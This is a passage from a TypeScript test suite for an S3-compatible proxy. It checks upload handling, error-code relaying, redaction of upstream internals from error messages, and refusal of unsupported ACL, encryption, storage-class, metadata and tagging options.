/**
 * PutObject through the S3 front in every payload mode of issue 12, against the S3 fixture (which
 * verifies uploads as S3 does and logs what became of each request body):
 * - the stored object is the payload, byte-exact, never the aws-chunked framing;
 * - AWS's published chunked-upload examples (signed, and signed with a CRC32C trailer) replayed
 *   byte for byte, their chunk signatures checked against the documented values;
 * - a forged chunk signature, a wrong checksum (trailer or header), a wrong hex SHA-256, a body
 *   shorter than declared, a client that disconnects: S3's error, and the upstream saw an ABORTED
 *   request and holds no object;
 * - the limits from the headers (411, EntityTooLarge) before anything reaches the upstream;
 * - Expect: 100-continue, pass-through headers, the ETag as the upstream gave it, cache purge.
 * The S3 listener runs on each engine (bun, node): they hand request bodies over differently.
 */
import { afterAll, beforeAll, describe, expect, test, setDefaultTimeout } from "bun:test";
import { deriveSigningKey, S3Signer } from "../../src/s3/sigv4.ts";
import { waitFor } from "../helpers/wait.ts";
import { smithyPresigned } from "../fronts/s3/helpers.ts";
import { buildAwsChunkedBody } from "../../src/s3/aws-chunked.ts";
import {
  answerOf,
  bytesOf,
  chunkedRequest,
  lines,
  rawRequest,
  sha256,
  signedFetch,
  startUploadEnv,
  upstreamBody,
  WRITER,
  type UploadEnv,
} from "./s3-front-upload-helpers.ts";

// Bun 1.4.5 ignores bunfig's [test] timeout (5 s default); servers and real clients on a loaded machine need more.
setDefaultTimeout(30_000);

const T = 30_000;
let env: UploadEnv;

const host = () => `127.0.0.1:${env.port}`;
const crc32 = (b: Uint8Array) => Buffer.from(new Uint8Array(new Uint32Array([Bun.hash.crc32(b)]).buffer).reverse()).toString("base64");
const md5 = (b: Uint8Array) => new Bun.CryptoHasher("md5").update(b).digest("base64");

/** The stored object, read straight from the fixture's storage. */
async function stored(key: string): Promise<Uint8Array | undefined> {
  return env.s3.read("up", key);
}

/** Asserts the upstream PUT of `key` was cut (the fixture saw an aborted body) and nothing is stored. */
async function abortedUpstream(key: string): Promise<void> {
  const e = await upstreamBody(env, key);
  expect(e.body).toBe("aborted");
  expect(await env.s3.exists("up", key)).toBe(false);
}

/**
 * A client that leaves mid-body: once the proxy is done with the request (nothing in flight), the
 * upstream PUT of `key` was cut, or never sent at all (the client was gone before the proxy had
 * started it: seen in about one run in four under load); either way nothing is stored.
 */
async function cutBeforeStored(key: string): Promise<void> {
  const puts = () => env.s3.requests.filter((e) => !e.admin && e.method === "PUT" && e.pathname === `/up/${key}`);
  const inFlight = () => Number(/^yatagarasu_http_requests_in_flight (\d+)$/m.exec(env.app.metrics.render())?.[1] ?? -1);
  await waitFor(() => inFlight() === 0 && puts().every((e) => e.body === "complete" || e.body === "aborted" || e.body === "rejected"), {
    timeoutMs: 10_000,
    message: () => `in flight ${inFlight()}, upstream ${JSON.stringify(puts().map((e) => e.body))}`,
  });
  expect(puts().map((e) => e.body).filter((b) => b !== "aborted")).toEqual([]);
  expect(await env.s3.exists("up", key)).toBe(false);
}

/** Header-auth headers for a request whose body is sent separately (UNSIGNED-PAYLOAD). */
async function signedHead(method: string, path: string, extra: Record<string, string>): Promise<Record<string, string>> {
  const signed = new S3Signer(WRITER, "us-east-1").signRequest({ method, host: host(), path, payloadHash: "UNSIGNED-PAYLOAD" });
  return { host: host(), ...extra, ...signed.headers };
}

describe.each(["bun", "node"] as const)("the S3 listener on the %s engine", (engine) => {
  beforeAll(async () => {
    env = await startUploadEnv({
      engine,
      moreBuckets: (endpoint) => `  - name: examplebucket
    path_prefix: /examplebucket
    access: read-write
    s3: { bucket: up, endpoint: "${endpoint}", access_key: "AKIDUPSTREAMWRITE", secret_key: "upstream-writer-secret-0123456789" }
`,
      moreCredentials: `    - { access_key_id: AKIAIOSFODNN7EXAMPLE, secret_access_key: "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", identity: aws-example, buckets: { examplebucket: [write] } }
`,
    });
  });
  afterAll(() => env.stop());

  describe("plain bodies", () => {
    test(
      "UNSIGNED-PAYLOAD: stored byte-exact, the object headers passed through, the ETag as the upstream gave it",
      async () => {
        const body = bytesOf(3 * 1024 * 1024 + 5, 1);
        const headers = {
          "content-type": "application/x-yata",
          "cache-control": "max-age=5",
          "content-disposition": 'attachment; filename="x.bin"',
          "content-encoding": "identity",
          "content-md5": md5(body),
          "x-amz-meta-owner": "qa",
          "x-amz-storage-class": "GLACIER", // not the client's to choose: dropped
        };
        const r = await signedFetch(env, { method: "PUT", path: "/up/plain/unsigned.bin", body, headers });
        const a = await answerOf(r);
        expect(a.status).toBe(200);
        expect(a.headers.get("etag")).toBe(`"${new Bun.CryptoHasher("md5").update(body).digest("hex")}"`);
        expect(sha256((await stored("plain/unsigned.bin"))!)).toBe(sha256(body));
        const up = env.s3.requests.findLast((e) => e.method === "PUT" && e.pathname === "/up/plain/unsigned.bin")!;
        expect(up.headers["x-amz-content-sha256"]).toBe("UNSIGNED-PAYLOAD");
        expect(up.headers["content-length"]).toBe(String(body.byteLength));
        expect(up.headers["x-amz-storage-class"]).toBeUndefined();
        expect(up.accessKeyId).toBe("AKIDUPSTREAMWRITE");
        const head = await signedFetch(env, { method: "HEAD", path: "/up/plain/unsigned.bin" });
        expect({
          type: head.headers.get("content-type"),
          cache: head.headers.get("cache-control"),
          disposition: head.headers.get("content-disposition"),
          meta: head.headers.get("x-amz-meta-owner"),
          etag: head.headers.get("etag"),
        }).toEqual({ type: "application/x-yata", cache: "max-age=5", disposition: 'attachment; filename="x.bin"', meta: "qa", etag: a.headers.get("etag") });
      },
      T,
    );

    test(
      "a small PutObject: object headers sent unsigned pass through beside the signed x-amz-meta-* and checksum (each looked up by name), and the others do not",
      async () => {
        const body = bytesOf(1024, 7);
        const key = "plain/unsigned-object-headers.bin";
        const signedOnes = { "x-amz-meta-owner": "qa", "x-amz-checksum-crc32": crc32(body), "x-amz-storage-class": "STANDARD" };
        const unsigned = { "content-type": "application/x-yata", "cache-control": "max-age=5", "content-disposition": "inline", "content-language": "ja", expires: "Thu, 01 Dec 2044 16:00:00 GMT", "content-md5": md5(body), "content-encoding": "identity" };
        const signed = new S3Signer(WRITER, "us-east-1").signRequest({ method: "PUT", host: host(), path: `/up/${key}`, headers: signedOnes, payloadHash: "UNSIGNED-PAYLOAD" });
        expect(signed.headers.authorization).not.toContain("content-type");
        const r = await fetch(env.endpoint + signed.path, { method: "PUT", headers: { ...unsigned, "x-custom": "no", ...signedOnes, ...signed.headers }, body });
        expect((await answerOf(r)).status).toBe(200);
        const up = env.s3.requests.findLast((e) => e.method === "PUT" && e.pathname === `/up/${key}`)!;
        const names = ["content-type", "cache-control", "content-disposition", "content-language", "expires", "content-md5", "content-encoding", "x-amz-meta-owner", "x-amz-checksum-crc32", "x-amz-storage-class", "x-custom"];
        expect(Object.fromEntries(names.map((n) => [n, up.headers[n]])) as Record<string, string | undefined>).toEqual({
          ...unsigned,
          "x-amz-meta-owner": "qa",
          "x-amz-checksum-crc32": crc32(body),
          "x-amz-storage-class": undefined,
          "x-custom": undefined,
        });
      },
      T,
    );

    test(
      "upstream refusals keep S3's code: 409 ConditionalRequestConflict on PutObject, 403 InvalidObjectState (an archived object) on GetObject",
      async () => {
        env.s3.faults.set("/up/codes/conflict.txt", { kind: "error", status: 409, code: "ConditionalRequestConflict", message: "conflict", method: "PUT", times: 1 });
        env.s3.faults.set("/up/codes/archived.txt", { kind: "error", status: 403, code: "InvalidObjectState", message: "The operation is not valid for the object's storage class", method: "GET" });
        try {
          const put = await answerOf(await signedFetch(env, { method: "PUT", path: "/up/codes/conflict.txt", body: bytesOf(10, 3), headers: { "if-none-match": "*" } }));
          expect({ status: put.status, code: put.code }).toEqual({ status: 409, code: "ConditionalRequestConflict" });
          const get = await answerOf(await signedFetch(env, { method: "GET", path: "/up/codes/archived.txt" }));
          expect({ status: get.status, code: get.code }).toEqual({ status: 403, code: "InvalidObjectState" });
        } finally {
          env.s3.faults.clear();
        }
      },
      T,
    );

    test(
      "a store without S3's checksums or aws-chunked (B2, R2 and Ceph RGW of before 2025) refusing what the proxy carries for the client: a header checksum, a small trailer one as a header, a large one re-framed as STREAMING-UNSIGNED-PAYLOAD-TRAILER; the client gets the store's code and message (README, Known limits), nothing is stored",
      async () => {
        const b2 = { kind: "error", status: 400, code: "InvalidArgument", message: "Unsupported header 'x-amz-checksum-crc32' received for this API call.", method: "PUT" } as const;
        const swift = { kind: "error", status: 501, code: "NotImplemented", message: "Transferring payloads in multiple chunks using aws-chunked is not supported.", method: "PUT" } as const;
        const small = bytesOf(1000, 5);
        const large = bytesOf(100_000, 6);
        env.s3.faults.set("/up/stores/header.bin", b2);
        env.s3.faults.set("/up/stores/small-trailer.bin", b2);
        env.s3.faults.set("/up/stores/large-trailer.bin", swift);
        try {
          const header = await answerOf(await signedFetch(env, { method: "PUT", path: "/up/stores/header.bin", body: small, headers: { "x-amz-checksum-crc32": crc32(small), "x-amz-sdk-checksum-algorithm": "CRC32" } }));
          const trailer = async (key: string, payload: Uint8Array) => {
            const req = chunkedRequest({ mode: "STREAMING-UNSIGNED-PAYLOAD-TRAILER", host: host(), path: `/up/stores/${key}`, payload, chunkSize: 65536, trailer: ["x-amz-checksum-crc32", crc32(payload)] });
            return answerOf(await fetch(`${env.endpoint}/up/stores/${key}`, { method: "PUT", headers: req.headers, body: req.body }));
          };
          const smallTrailer = await trailer("small-trailer.bin", small);
          const largeTrailer = await trailer("large-trailer.bin", large);
          // (the message as the XML body writes it: the SDKs read it back as the store wrote it)
          const b2Text = b2.message.replaceAll("'", "&apos;");
          expect([header, smallTrailer, largeTrailer].map((a) => [a.status, a.code, a.message])).toEqual([
            [400, "InvalidArgument", b2Text],
            [400, "InvalidArgument", b2Text],
            [501, "NotImplemented", swift.message],
          ]);
          const sent = (key: string): unknown[] => {
            const h = env.s3.requests.findLast((e) => e.method === "PUT" && e.pathname === `/up/stores/${key}`)!.headers;
            return [h["x-amz-checksum-crc32"] !== undefined, h["x-amz-trailer"] ?? null, h["content-encoding"] ?? null];
          };
          expect([sent("header.bin"), sent("small-trailer.bin"), sent("large-trailer.bin")]).toEqual([
            [true, null, null],
            [true, null, null],
            [false, "x-amz-checksum-crc32", "aws-chunked"],
          ]);
          for (const key of ["header.bin", "small-trailer.bin", "large-trailer.bin"]) expect(await env.s3.exists("up", `stores/${key}`)).toBe(false);
        } finally {
          env.s3.faults.clear();
        }
      },
      T,
    );

    test(
      "an upstream refusal's message that names the store's internals (a host of any domain, an IPv6 address, an account id, a key id) is replaced by S3's text; S3's own messages are kept; AccessDenied is always S3's 'Access Denied'",
      async () => {
        const leaky: Array<[number, string, string]> = [
          [403, "AccessDenied", "Access Denied by rgw1.dc2.acme.de for user backup-svc in account 123456789012 (key AGPAEXAMPLEINTERNAL1)"],
          [403, "AccessDenied", "Access denied for user backup-svc"],
          [400, "InvalidArgument", "bad ceph-prod-3 [fd00:10::5] tenant acme-internal"],
          [400, "InvalidArgument", "failed at fd00::1 for account 123456789012"],
        ];
        try {
          for (const [status, code, message] of leaky) {
            env.s3.faults.set("/up/codes/leak.txt", { kind: "error", status, code, message, method: "PUT", times: 1 });
            const put = await answerOf(await signedFetch(env, { method: "PUT", path: "/up/codes/leak.txt", body: bytesOf(10, 3) }));
            expect({ status: put.status, code: put.code }).toEqual({ status, code });
            expect(put.body).not.toMatch(/rgw1|acme|fd00|123456789012|AGPA|backup-svc|ceph/);
          }
          env.s3.faults.set("/up/codes/leak.txt", { kind: "error", status: 400, code: "InvalidArgument", message: "Part number must be an integer between 1 and 10000, inclusive", method: "PUT", times: 1 });
          const kept = await answerOf(await signedFetch(env, { method: "PUT", path: "/up/codes/leak.txt", body: bytesOf(10, 3) }));
          expect(kept.message).toBe("Part number must be an integer between 1 and 10000, inclusive");
        } finally {
          env.s3.faults.clear();
        }
      },
      T,
    );

    test(
      "DeleteObjects' per-key errors follow the same rules as a whole answer's (a message naming internals replaced, a credential code AccessDenied, a code S3 lacks InternalError, S3's own texts kept)",
      async () => {
        const leak = "Access Denied by rgw1.dc2.acme.de (10.1.2.3) for user AKIAIOSFODNN7EXAMPLE in account 123456789012";
        const result =
          '<?xml version="1.0" encoding="UTF-8"?><DeleteResult xmlns="http://s3.amazonaws.com/doc/2006-03-01/">' +
          `<Error><Key>codes/a</Key><Code>AccessDenied</Code><Message>${leak}</Message></Error>` +
          "<Error><Key>codes/b</Key><Code>SignatureDoesNotMatch</Code><Message>signed by rgw1</Message></Error>" +
          "<Error><Key>codes/c</Key><Code>CephQuotaExceeded</Code><Message>tenant acme over quota</Message></Error>" +
          "<Error><Key>codes/d</Key><Code>PreconditionFailed</Code><Message>At least one of the pre-conditions you specified did not hold</Message></Error>" +
          "</DeleteResult>";
        for (const path of ["/up", "/up/"]) env.s3.faults.set(path, { kind: "reply", status: 200, body: result, method: "POST", times: 1 });
        try {
          const xml = "<Delete>" + ["a", "b", "c", "d"].map((k) => `<Object><Key>codes/${k}</Key></Object>`).join("") + "</Delete>";
          const del = await signedFetch(env, { method: "POST", path: "/up", query: [["delete", ""]], body: xml, headers: { "content-md5": md5(new TextEncoder().encode(xml)) } });
          const body = await del.text();
          expect(del.status).toBe(200);
          // they were relayed word for word, the store's host, address, key id and codes included
          expect(body).not.toMatch(/rgw1|acme|10\.1\.2\.3|AKIAIOSFODNN7EXAMPLE|123456789012|SignatureDoesNotMatch|CephQuotaExceeded/);
          const entries = [...body.matchAll(/<Error><Key>([^<]*)<\/Key><Code>([^<]*)<\/Code><Message>([^<]*)<\/Message><\/Error>/g)].map((m) => m.slice(1).join(" | "));
          expect(entries).toEqual([
            "codes/a | AccessDenied | Access Denied",
            "codes/b | AccessDenied | Access Denied",
            "codes/c | InternalError | We encountered an internal error. Please try again.",
            "codes/d | PreconditionFailed | At least one of the pre-conditions you specified did not hold",
          ]);
        } finally {
          env.s3.faults.clear();
        }
      },
      T,
    );

    test(
      "CreateMultipartUpload relays S3's lifecycle headers (x-amz-abort-date, x-amz-abort-rule-id) and a write's x-amz-server-side-encryption-bucket-key-enabled (they were dropped: the SDK's AbortDate/AbortRuleId/BucketKeyEnabled stayed empty)",
      async () => {
        const abort = { "x-amz-abort-date": "Wed, 28 Oct 2026 20:00:00 GMT", "x-amz-abort-rule-id": "abort-after-7-days", "x-amz-server-side-encryption": "AES256", "x-amz-server-side-encryption-bucket-key-enabled": "true" };
        const body = '<?xml version="1.0" encoding="UTF-8"?><InitiateMultipartUploadResult xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Bucket>up</Bucket><Key>codes/abort.bin</Key><UploadId>u-1</UploadId></InitiateMultipartUploadResult>';
        env.s3.faults.set("/up/codes/abort.bin", { kind: "reply", status: 200, body, headers: abort, method: "POST", times: 1 });
        try {
          const r = await signedFetch(env, { method: "POST", path: "/up/codes/abort.bin", query: [["uploads", ""]] });
          expect(r.status).toBe(200);
          expect(await r.text()).toContain("<UploadId>u-1</UploadId>");
          expect(Object.fromEntries(Object.keys(abort).map((h) => [h, r.headers.get(h)]))).toEqual(abort);
        } finally {
          env.s3.faults.clear();
        }
      },
      T,
    );

    test(
      "ListParts and ListMultipartUploads: an upstream 200 that is not the listing (an <Error> naming internals, an empty body, a listing whose bytes are not UTF-8) is 500 InternalError, nothing of it relayed",
      async () => {
        const doc = "<Error><Code>InternalError</Code><Message>backend rgw1.dc2.acme.de (10.1.2.3) failed for arn:aws:iam::123456789012:role/internal</Message></Error>";
        // (a store keeping Latin-1 names: its byte was read as U+FFFD, a 200 naming a key no store holds)
        const latin1 = (root: string) => Buffer.from(`<?xml version="1.0" encoding="UTF-8"?><${root} xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Bucket>up</Bucket><Key>codes/caf\xe9.bin</Key><UploadId>u1</UploadId><IsTruncated>false</IsTruncated></${root}>`, "latin1");
        try {
          for (const [partsBody, body] of [[doc, doc], ["", ""], [latin1("ListPartsResult"), latin1("ListMultipartUploadsResult")]]) {
            env.s3.faults.set("/up/codes/mpu.bin", { kind: "reply", status: 200, body: partsBody, method: "GET", times: 1 });
            for (const path of ["/up", "/up/"]) env.s3.faults.set(path, { kind: "reply", status: 200, body, method: "GET", times: 1 });
            const parts = await answerOf(await signedFetch(env, { method: "GET", path: "/up/codes/mpu.bin", query: [["uploadId", "u1"]] }));
            const uploads = await answerOf(await signedFetch(env, { method: "GET", path: "/up", query: [["uploads", ""]] }));
            for (const a of [parts, uploads]) {
              expect({ status: a.status, code: a.code }).toEqual({ status: 500, code: "InternalError" });
              expect(a.body).not.toMatch(/rgw1|10\.1\.2\.3|arn:|123456789012/);
            }
            env.s3.faults.clear();
          }
          // (a listing after a UTF-8 byte order mark, which XML allows, is one)
          const bom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(latin1("ListPartsResult").toString("latin1").replace("caf\xe9", "cafe"))]);
          env.s3.faults.set("/up/codes/mpu.bin", { kind: "reply", status: 200, body: bom, method: "GET", times: 1 });
          expect((await answerOf(await signedFetch(env, { method: "GET", path: "/up/codes/mpu.bin", query: [["uploadId", "u1"]] }))).status).toBe(200);
        } finally {
          env.s3.faults.clear();
        }
      },
      T,
    );

    test(
      "ACLs: x-amz-acl private / bucket-owner-full-control pass; any other canned ACL or a grant is AccessControlListNotSupported on PutObject, CopyObject and CreateMultipartUpload, nothing reaching the upstream",
      async () => {
        for (const acl of ["private", "bucket-owner-full-control"]) {
          const r = await signedFetch(env, { method: "PUT", path: `/up/acl/${acl}.txt`, body: bytesOf(10, 3), headers: { "x-amz-acl": acl } });
          expect(r.status).toBe(200);
        }
        env.s3.resetLog();
        const refusals: Array<[string, Record<string, string>, Array<[string, string]>?]> = [
          ["PUT", { "x-amz-acl": "public-read" }],
          ["PUT", { "x-amz-grant-read": 'uri="http://acs.amazonaws.com/groups/global/AllUsers"' }],
          ["PUT", { "x-amz-acl": "public-read-write", "x-amz-copy-source": "/up/acl/private.txt" }],
          ["POST", { "x-amz-acl": "authenticated-read" }, [["uploads", ""]]],
          // x-amz-grant-write too (it was taken as nothing: 200 with the grant silently gone)
          ["PUT", { "x-amz-grant-write": 'uri="http://acs.amazonaws.com/groups/global/AllUsers"' }],
          ["POST", { "x-amz-grant-write": 'uri="http://acs.amazonaws.com/groups/global/AllUsers"' }, [["uploads", ""]]],
        ];
        for (const [method, headers, query] of refusals) {
          const a = await answerOf(await signedFetch(env, { method, path: "/up/acl/refused.txt", headers, query, body: method === "PUT" && !headers["x-amz-copy-source"] ? bytesOf(10, 3) : undefined }));
          expect({ status: a.status, code: a.code }).toEqual({ status: 400, code: "AccessControlListNotSupported" });
        }
        // PutObjectAcl and PutBucketAcl with a private canned ACL beside a write grant: refused, not 200
        for (const path of ["/up/acl/private.txt", "/up"]) {
          const a = await answerOf(await signedFetch(env, { method: "PUT", path, query: [["acl", ""]], headers: { "x-amz-acl": "private", "x-amz-grant-write": 'uri="http://acs.amazonaws.com/groups/global/AllUsers"' } }));
          expect({ status: a.status, code: a.code }).toEqual({ status: 400, code: "AccessControlListNotSupported" });
        }
        expect(env.s3.requests.filter((e) => !e.admin)).toEqual([]);
        expect(await env.s3.exists("up", "acl/refused.txt")).toBe(false);
      },
      T,
    );

    test(
      "Object Lock, customer (SSE-C) and KMS keys and appends (x-amz-write-offset-bytes) are refused (400 InvalidRequest / 501 NotImplemented) on PutObject, CopyObject and CreateMultipartUpload (a copy source's key on UploadPartCopy too), never dropped; SSE-S3 (AES256) passes; an encryption method S3 does not have is 400 InvalidArgument, a storage class it does not have 400 InvalidStorageClass",
      async () => {
        const ok = await signedFetch(env, { method: "PUT", path: "/up/sse/aes.txt", body: bytesOf(10, 4), headers: { "x-amz-server-side-encryption": "AES256" } });
        expect(ok.status).toBe(200);
        env.s3.resetLog();
        const refusals: Array<[string, Record<string, string>, number, string, Array<[string, string]>?]> = [
          ["PUT", { "x-amz-object-lock-mode": "GOVERNANCE", "x-amz-object-lock-retain-until-date": "2030-01-01T00:00:00Z" }, 400, "InvalidRequest"],
          ["PUT", { "x-amz-object-lock-legal-hold": "ON" }, 400, "InvalidRequest"],
          ["PUT", { "x-amz-server-side-encryption": "aws:kms", "x-amz-server-side-encryption-aws-kms-key-id": "arn:aws:kms:us-east-1:1:key/x" }, 501, "NotImplemented"],
          ["PUT", { "x-amz-server-side-encryption-customer-algorithm": "AES256", "x-amz-server-side-encryption-customer-key": Buffer.alloc(32, 1).toString("base64") }, 501, "NotImplemented"],
          ["PUT", { "x-amz-object-lock-mode": "COMPLIANCE", "x-amz-copy-source": "/up/sse/aes.txt" }, 400, "InvalidRequest"],
          ["PUT", { "x-amz-copy-source-server-side-encryption-customer-algorithm": "AES256", "x-amz-copy-source": "/up/sse/aes.txt" }, 501, "NotImplemented"],
          // (UploadPartCopy dropped the source's key: the upstream then said the key was missing)
          ["PUT", { "x-amz-copy-source-server-side-encryption-customer-algorithm": "AES256", "x-amz-copy-source-server-side-encryption-customer-key": Buffer.alloc(32, 1).toString("base64"), "x-amz-copy-source": "/up/sse/aes.txt" }, 501, "NotImplemented", [["partNumber", "1"], ["uploadId", "upload-1"]]],
          ["POST", { "x-amz-server-side-encryption": "aws:kms:dsse" }, 501, "NotImplemented", [["uploads", ""]]],
          // an append sent as a plain PutObject replaced the object with the appended bytes
          ["PUT", { "x-amz-write-offset-bytes": "10" }, 501, "NotImplemented"],
          // a precondition S3 does not take on a write was dropped: the object written whatever its date
          ["PUT", { "if-unmodified-since": "Mon, 01 Jan 2001 00:00:00 GMT" }, 501, "NotImplemented"],
          ["PUT", { "if-unmodified-since": "Mon, 01 Jan 2001 00:00:00 GMT", "x-amz-copy-source": "/up/sse/aes.txt" }, 501, "NotImplemented"],
        ];
        for (const [method, headers, status, code, query] of refusals) {
          const a = await answerOf(await signedFetch(env, { method, path: "/up/sse/refused.txt", headers, query, body: method === "PUT" && !headers["x-amz-copy-source"] ? bytesOf(10, 3) : undefined }));
          expect({ headers, status: a.status, code: a.code }).toEqual({ headers, status, code });
          expect(a.message).toContain("not supported through this proxy");
        }
        // a value that is no encryption method is S3's InvalidArgument (it was 501, as if the proxy lacked a feature)
        for (const [method, value, query] of [["PUT", "bogus"], ["PUT", "aes256"], ["POST", "AES-256", [["uploads", ""]]]] as Array<[string, string, Array<[string, string]>?]>) {
          const a = await answerOf(await signedFetch(env, { method, path: "/up/sse/refused.txt", headers: { "x-amz-server-side-encryption": value }, query, body: method === "PUT" ? bytesOf(10, 3) : undefined }));
          expect({ value, status: a.status, code: a.code, message: a.message }).toEqual({ value, status: 400, code: "InvalidArgument", message: "The encryption method specified is not supported" });
        }
        // a storage class S3 does not have is its 400 InvalidStorageClass (it was dropped and the write stored), on PutObject, CreateMultipartUpload and CopyObject;
        // so is one a general-purpose bucket does not take (directory buckets', Outposts', Snowball's, FSx's: they were accepted and dropped)
        for (const [method, value, query, source] of [["PUT", "BOGUS"], ["PUT", "standard"], ["POST", "GLACIER2", [["uploads", ""]]], ["PUT", "COLD", undefined, "/up/sse/aes.txt"], ["PUT", "EXPRESS_ONEZONE"], ["POST", "SNOW", [["uploads", ""]]], ["PUT", "FSX_ONTAP", undefined, "/up/sse/aes.txt"], ["PUT", "FSX_OPENZFS"], ["PUT", "OUTPOSTS"]] as Array<[string, string, Array<[string, string]>?, string?]>) {
          const headers: Record<string, string> = { "x-amz-storage-class": value, ...(source ? { "x-amz-copy-source": source } : {}) };
          const a = await answerOf(await signedFetch(env, { method, path: "/up/sse/refused.txt", headers, query, body: method === "PUT" && !source ? bytesOf(10, 3) : undefined }));
          expect({ value, status: a.status, code: a.code }).toEqual({ value, status: 400, code: "InvalidStorageClass" });
        }
        expect(env.s3.requests.filter((e) => !e.admin)).toEqual([]);
        expect(await env.s3.exists("up", "sse/refused.txt")).toBe(false);
      },
      T,
    );

    test(
      "metadata over S3's 2 KiB (MetadataTooLarge) and tags S3 refuses in x-amz-tagging (InvalidTag; InvalidArgument for a header that is no query of distinct names) are refused on PutObject, CreateMultipartUpload and a REPLACE copy, never stored (the fixture, like MinIO, would store them); 2 KiB exactly passes; a COPY copy ignores them as S3 does",
      async () => {
        env.s3.resetLog();
        const big = { "x-amz-meta-a": "x".repeat(2000), "x-amz-meta-bb": "y".repeat(47) }; // 1 + 2000 + 2 + 47 = 2050 bytes
        const eleven = Array.from({ length: 11 }, (_, i) => `k${i}=v`).join("&");
        const refusals: Array<[string, Record<string, string>, string, Array<[string, string]>?]> = [
          ["PUT", big, "MetadataTooLarge"],
          ["POST", big, "MetadataTooLarge", [["uploads", ""]]],
          ["PUT", { ...big, "x-amz-copy-source": "/up/sse/aes.txt", "x-amz-metadata-directive": "REPLACE" }, "MetadataTooLarge"],
          ["PUT", { "x-amz-tagging": eleven }, "InvalidTag"],
          // (a header that is no query of distinct names is refused whole, as S3 words it: InvalidArgument)
          ["PUT", { "x-amz-tagging": "a=1&a=2" }, "InvalidArgument"],
          ["POST", { "x-amz-tagging": "a=&a=" }, "InvalidArgument", [["uploads", ""]]],
          ["PUT", { "x-amz-tagging": "=v" }, "InvalidArgument"],
          ["PUT", { "x-amz-tagging": "TagSet=[{Key=k,Value=v}]" }, "InvalidArgument"],
          ["PUT", { "x-amz-tagging": `k=${"v".repeat(257)}` }, "InvalidTag"],
          ["POST", { "x-amz-tagging": `${"k".repeat(129)}=v` }, "InvalidTag", [["uploads", ""]]],
          ["PUT", { "x-amz-tagging": "aws%3Acost-center=1" }, "InvalidTag"],
          ["PUT", { "x-amz-tagging": "platform=metal%2Copenstack" }, "InvalidTag"],
          ["PUT", { "x-amz-tagging": "a=%E9" }, "InvalidArgument"],
        ];
        for (const [method, headers, code, query] of refusals) {
          const a = await answerOf(await signedFetch(env, { method, path: "/up/meta/refused.txt", headers, query, body: method === "PUT" && !headers["x-amz-copy-source"] ? bytesOf(10, 3) : undefined }));
          expect({ headers: Object.keys(headers), status: a.status, code: a.code }).toEqual({ headers: Object.keys(headers), status: 400, code });
        }
        expect(env.s3.requests.filter((e) => !e.admin)).toEqual([]);
        const exact = { "x-amz-meta-a": "x".repeat(2000), "x-amz-meta-bb": "y".repeat(45) }; // 2048
        expect((await signedFetch(env, { method: "PUT", path: "/up/meta/exact.txt", headers: { ...exact, "x-amz-tagging": Array.from({ length: 10 }, (_, i) => `k${i}=v`).join("&") }, body: "ok" })).status).toBe(200);
        const copy = await signedFetch(env, { method: "PUT", path: "/up/meta/copied.txt", headers: { ...big, "x-amz-tagging": eleven, "x-amz-copy-source": "/up/meta/exact.txt" } });
        expect(copy.status).toBe(200);
        await copy.arrayBuffer();
      },
      T,
    );

    test(
      "a presigned PutObject whose signer hoisted x-amz-* headers into the query (the JS SDK's presigner does) stores that metadata and those tags; a hoisted public ACL is refused",
      async () => {
        const path = "/up/presigned/hoisted.txt";
        const url = async (headers: Record<string, string>) => {
          const v = await smithyPresigned({ method: "PUT", path, creds: WRITER, date: new Date(), expiresIn: 300, host: host(), headers });
          expect(v.rawQuery).toContain("x-amz-meta-owner=alice"); // hoisted, as @aws-sdk/s3-request-presigner does
          return `${env.endpoint}${v.rawPath}?${v.rawQuery}`;
        };
        const put = await fetch(await url({ "x-amz-meta-owner": "alice", "x-amz-tagging": "team=a&tier=1" }), { method: "PUT", body: "hoisted body" });
        expect(put.status).toBe(200);
        const head = await signedFetch(env, { method: "HEAD", path });
        expect(head.headers.get("x-amz-meta-owner")).toBe("alice");
        const tags = await (await signedFetch(env, { method: "GET", path, query: [["tagging", ""]] })).text();
        expect(tags).toContain("<Key>team</Key><Value>a</Value>");
        expect(tags).toContain("<Key>tier</Key><Value>1</Value>");
        const before = env.s3.requests.length;
        const acl = await answerOf(await fetch(await url({ "x-amz-meta-owner": "alice", "x-amz-acl": "public-read" }), { method: "PUT", body: "x" }));
        expect({ status: acl.status, code: acl.code }).toEqual({ status: 400, code: "AccessControlListNotSupported" });
        expect(env.s3.requests.slice(before).filter((e) => !e.admin)).toEqual([]);
      },
      T,
    );

    test(
      "a presigned CopyObject (the presigner hoists x-amz-copy-source into the query) copies; it is never read as a PutObject that empties the destination",
      async () => {
        await env.s3.put("up", "presigned/copy-src.txt", "the source");
        await env.s3.put("up", "presigned/copy-dst.txt", "the old destination");
        const v = await smithyPresigned({ method: "PUT", path: "/up/presigned/copy-dst.txt", creds: WRITER, date: new Date(), expiresIn: 300, host: host(), headers: { "x-amz-copy-source": "/up/presigned/copy-src.txt" } });
        expect(v.rawQuery.toLowerCase()).toContain("x-amz-copy-source=");
        const res = await fetch(`${env.endpoint}${v.rawPath}?${v.rawQuery}`, { method: "PUT" });
        const body = await res.text();
        expect([res.status, body.includes("<CopyObjectResult")]).toEqual([200, true]);
        expect(new TextDecoder().decode((await env.s3.read("up", "presigned/copy-dst.txt"))!)).toBe("the source");
      },
      T,
    );

    test(
      "a small PutObject and a DeleteObject answer with no body, our request id and the ETag, never the upstream's own headers",
      async () => {
        const body = bytesOf(1024, 7);
        const r = await signedFetch(env, { method: "PUT", path: "/up/plain/small-answer.bin", body });
        const text = await r.text();
        expect(r.status).toBe(200);
        expect(text).toBe("");
        expect(r.headers.get("etag")).toBe(`"${new Bun.CryptoHasher("md5").update(body).digest("hex")}"`);
        expect(r.headers.get("x-amz-request-id")).toBe(r.headers.get("x-request-id"));
        expect(r.headers.get("x-amz-request-id")).toMatch(/^[0-9a-f-]{36}$/);
        // (ours, as on every successful answer: this process's id, never the upstream's per-request one)
        const hostId = r.headers.get("x-amz-id-2");
        expect(hostId).toBeTruthy();
        expect(r.headers.get("last-modified")).toBeNull(); // the upstream's, for the PUT: not relayed
        const d = await signedFetch(env, { method: "DELETE", path: "/up/plain/small-answer.bin" });
        expect(await d.text()).toBe("");
        expect(d.status).toBe(204);
        expect(d.headers.get("x-amz-request-id")).toBe(d.headers.get("x-request-id"));
        expect(d.headers.get("x-amz-id-2")).toBe(hostId);
